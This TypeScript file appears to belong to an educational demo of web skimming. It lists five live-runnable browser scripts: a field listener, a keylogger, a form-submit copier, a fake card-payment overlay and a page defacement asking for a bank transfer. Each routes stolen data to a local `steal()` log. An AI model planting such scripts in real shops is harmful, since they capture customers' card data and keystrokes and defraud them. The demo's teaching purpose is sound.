/**
 * The attacks that the shop's page lets a visitor try live. Each is a script as it was found on real
 * shops; `steal(text)` is in scope and goes to the demo's own log and nowhere else.
 */

export interface LiveAttack {
  id: string;
  title: string;
  /** What it does, in plain words. */
  words: string;
  code: string;
}

export const LIVE_ATTACKS: readonly LiveAttack[] = [
  {
    id: 'listen',
    title: 'Listen to every field',
    words:
      'As in 2017: the chat’s script is changed at the vendor, and copies each field as it is filled in. Nobody has to open the chat.',
    code: `document.addEventListener('input', ({ target }) => steal(target.name + ' = ' + target.value), true);`,
  },
  {
    id: 'keys',
    title: 'Log the keys',
    words: 'It hears each key that is pressed anywhere on the page, and sends them in a bunch.',
    code: `let keys = ''; document.addEventListener('keydown', ({ key }) => { keys += key; if (keys.length % 8 === 0) steal('keys: ' + keys); }, true);`,
  },
  {
    id: 'submit',
    title: 'Copy the order as it is sent',
    words: 'It does nothing until the form is sent, and then hides the copy in base64.',
    code: `document.addEventListener('submit', ({ target }) => steal(btoa(new URLSearchParams(new FormData(target)))), true);`,
  },
  {
    id: 'cover',
    title: 'Lay a false form over the true one',
    words: 'The customer sees a payment form, and it is the attacker’s.',
    code: `const cover = document.createElement('form'); cover.style.cssText = 'position:fixed;inset:0;background:#fff;color:#222;padding:24px;font:15px system-ui;z-index:9'; cover.innerHTML = '<h2>Secure payment</h2><p>Please enter your card once more.</p><input name="false-card" style="width:100%;font:18px system-ui;padding:10px">'; cover.oninput = ({ target }) => steal('false form: ' + target.value); document.body.append(cover);`,
  },
  {
    id: 'deface',
    title: 'Change what the page says',
    words: 'No card needed: it asks for a bank transfer, to an account of its own.',
    code: `for (const heading of document.querySelectorAll('h1')) heading.textContent = 'Card payments are down. Please transfer to DE00 ATTACKER.'; steal('the page now asks for a transfer to the attacker');`,
  },
];
